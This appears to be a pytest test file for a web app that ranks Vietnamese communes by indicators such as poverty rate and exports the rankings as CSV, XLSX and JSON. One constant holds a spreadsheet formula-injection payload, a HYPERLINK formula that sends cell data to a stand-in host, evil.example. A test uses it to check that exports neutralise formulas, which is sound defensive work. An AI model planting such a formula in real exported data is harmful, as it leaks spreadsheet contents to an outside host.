"""The commune ranking: order, ranks, change since a base year, threshold filter, CSV/XLSX/JSON downloads."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
import sqlalchemy as sa
from conftest import needs_shared, store_engine

pytestmark = needs_shared

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"bấm")'


def ranking(client, query: str) -> dict:
    response = client.get("/ranking.json?" + query)
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.get_json()


def api_values(client, query: str) -> list[dict]:
    return client.get("/api/values?" + query).get_json()["records"]


def test_rows_are_sorted_worst_first_with_competition_ranks(client):
    body = ranking(client, "indicator=poverty_rate&year=2021")
    rows = body["rows"]
    assert len(rows) == body["total"] == 21 and body["order"] == "desc"
    values = [r["value"] for r in rows]
    assert values == sorted(values, reverse=True)
    assert rows[0]["rank"] == 1
    for previous, row in zip(rows, rows[1:]):
        if row["value_text"] == previous["value_text"]:
            assert row["rank"] == previous["rank"]
        else:
            assert row["rank"] == rows.index(row) + 1
    # the ranking's values are the map's values
    expected = {r["code"]: r["value"] for r in api_values(client, "indicator=poverty_rate&year=2021")}
    assert {r["code"]: r["value"] for r in rows} == expected
    assert all(r["numerator"] is not None and r["denominator"] is not None and r["illustrative"] for r in rows)
    assert all(r["source"] for r in rows)


def test_higher_is_better_ranks_the_lowest_first_and_order_can_be_flipped(client):
    body = ranking(client, "indicator=cultural_families_rate&year=2021")
    assert body["order"] == "asc"
    assert [r["value"] for r in body["rows"]] == sorted(r["value"] for r in body["rows"])
    flipped = ranking(client, "indicator=cultural_families_rate&year=2021&order=desc")
    assert [r["value"] for r in flipped["rows"]] == sorted((r["value"] for r in body["rows"]), reverse=True)


def test_ties_share_a_rank(client):
    body = ranking(client, "indicator=projects_active&year=2023")
    ranks = [r["rank"] for r in body["rows"]]
    ones = [r for r in body["rows"] if r["value"] == body["rows"][0]["value"]]
    assert len(ones) > 1 and all(r["rank"] == 1 for r in ones)
    assert ranks[len(ones)] == len(ones) + 1


def test_threshold_filter_keeps_the_communes_the_map_highlights(client):
    body = ranking(client, "indicator=poverty_rate&year=2021&min=30")
    records = api_values(client, "indicator=poverty_rate&year=2021&min=30")
    expected = {r["code"] for r in records if r["value"] is not None and r["value"] >= 30}
    assert expected, "the seeded data should have communes at or above 30%"
    assert {r["code"] for r in body["rows"]} == expected
    assert {r["code"] for r in records if r["highlight"]} == expected
    assert body["matching"] == len(expected) and body["total"] == 21
    assert body["threshold"] == {"min": 30.0, "max": None, "active": True, "text": "≥ 30"}
    between = ranking(client, "indicator=poverty_rate&year=2021&min=10&max=20,5")
    assert all(10 <= r["value"] <= 20.5 for r in between["rows"])
    assert between["threshold"]["text"] == "≥ 10 và ≤ 20,5"


def test_change_since_a_base_year_in_percentage_points(client):
    body = ranking(client, "indicator=poverty_rate&year=2024&compare=2016")
    assert body["change_unit"] == "điểm phần trăm"
    for row in body["rows"]:
        assert row["change"] == pytest.approx(row["value"] - row["base_value"], abs=1e-9)
    lia = next(r for r in body["rows"] if r["code"] == "19489")
    assert lia["aggregated"] is True and "A Túc" in lia["members_text"]
    by_change = ranking(client, "indicator=poverty_rate&year=2024&compare=2016&sort=change&order=asc")
    changes = [r["change"] for r in by_change["rows"]]
    assert changes == sorted(changes) and by_change["rows"][0]["rank"] == 1


def test_ranking_on_2025_units(client):
    body = ranking(client, "indicator=population&year=2022&units_year=2025")
    assert body["total"] == 7 and body["version"]["id"] == "2025"


@pytest.mark.parametrize("query, fragment", [
    ("indicator=poverty_rate&year=2021&sort=change", "needs a base year"),
    ("indicator=poverty_rate&year=2021&sort=x", "unknown sort"),
    ("indicator=poverty_rate&year=2021&order=up", "unknown order"),
    ("indicator=nope&year=2021", "unknown indicator"),
])
def test_bad_parameters_answer_400_in_every_format(client, query, fragment):
    for fmt in ("json", "csv", "xlsx"):
        response = client.get(f"/ranking.{fmt}?{query}")
        assert response.status_code == 400 and fragment in response.get_json()["error"]
    page = client.get("/ranking?" + query)
    assert page.status_code == 400 and fragment in page.get_data(as_text=True)


# --- downloads --------------------------------------------------------------------------------

def read_csv(response) -> list[list[str]]:
    data = response.data
    assert data.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM for Excel"
    assert b"\r\n" in data
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_has_the_filtered_rows_in_order(client):
    response = client.get("/ranking.csv?indicator=poverty_rate&year=2021&min=30")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Content-Disposition"].endswith(".csv")
    table = read_csv(response)
    header, rows = table[0], table[1:]
    assert header[:3] == ["Hạng", "Mã", "Xã"] and "Tỷ lệ hộ nghèo 2021 (% số hộ)" in header
    expected = ranking(client, "indicator=poverty_rate&year=2021&min=30")["rows"]
    assert [r[1] for r in rows] == [r["code"] for r in expected]
    assert [r[2] for r in rows] == [r["name"] for r in expected]
    value = header.index("Tỷ lệ hộ nghèo 2021 (% số hộ)")
    assert all(float(r[value]) >= 30 for r in rows)
    assert all(r[header.index("Minh họa")] == "có" for r in rows)


def test_csv_with_change_columns_in_english(client):
    table = read_csv(client.get("/ranking.csv?indicator=poverty_rate&year=2024&compare=2016&lang=en"))
    header = table[0]
    assert header[0] == "Rank" and "Change 2016→2024 (percentage points)" in header
    change, base, value = (header.index("Change 2016→2024 (percentage points)"),
                           header.index("Poverty rate 2016 (% of households)"),
                           header.index("Poverty rate 2024 (% of households)"))
    for row in table[1:]:
        assert float(row[change]) == pytest.approx(float(row[value]) - float(row[base]), abs=1e-3)


def test_xlsx_has_the_same_rows_as_numbers_and_an_about_sheet(client):
    response = client.get("/ranking.xlsx?indicator=poverty_rate&year=2021&min=30")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    sheet = book["Xếp hạng"]
    rows = list(sheet.iter_rows(values_only=True))
    expected = ranking(client, "indicator=poverty_rate&year=2021&min=30")["rows"]
    assert [r[1] for r in rows[1:]] == [r["code"] for r in expected]
    assert all(isinstance(r[3], float) and r[3] >= 30 for r in rows[1:])
    assert all(isinstance(r[0], int) for r in rows[1:])
    about = [c for row in book["Thông tin"].iter_rows(values_only=True) for c in row if c]
    assert "≥ 30" in about and any("minh họa" in str(c).lower() for c in about)


def test_formula_like_names_are_neutralised_in_csv_and_xlsx(fresh_app):
    with store_engine(fresh_app).begin() as conn:
        assert conn.execute(sa.text("UPDATE units SET name = :n WHERE code = '19468'"), {"n": HOSTILE}).rowcount >= 1
        conn.execute(sa.text("UPDATE sources SET title = '@SUM(1+1)' WHERE illustrative = true"))
    client = fresh_app.test_client()
    rows = read_csv(client.get("/ranking.csv?indicator=poverty_rate&year=2021"))
    hostile = next(r for r in rows if r[1] == "19468")
    assert hostile[2] == "'" + HOSTILE
    assert hostile[rows[0].index("Nguồn")] == "'@SUM(1+1)"
    book = openpyxl.load_workbook(io.BytesIO(client.get("/ranking.xlsx?indicator=poverty_rate&year=2021").data))
    sheet = book.worksheets[0]
    cell = next(row[2] for row in sheet.iter_rows(min_row=2) if row[1].value == "19468")
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    # the page and the JSON show the name as it is (escaped in HTML)
    page = client.get("/ranking?indicator=poverty_rate&year=2021").get_data(as_text=True)
    assert "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1" in page or "=HYPERLINK(&quot;" in page
    assert any(r["name"] == HOSTILE for r in ranking(client, "indicator=poverty_rate&year=2021")["rows"])


def test_ranking_page_links_downloads_with_the_same_filters(client):
    page = client.get("/ranking?indicator=poverty_rate&year=2024&compare=2016&min=20")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    for fmt in ("csv", "xlsx", "json"):
        assert f'href="/ranking.{fmt}?indicator=poverty_rate&amp;year=2024&amp;compare=2016&amp;min=20"' in html
    assert html.count('<tr data-code=') == ranking(client, "indicator=poverty_rate&year=2024&compare=2016&min=20")[
        "matching"]
    assert "/communes/" in html and "valid_from=" in html
    assert "<script>" not in html
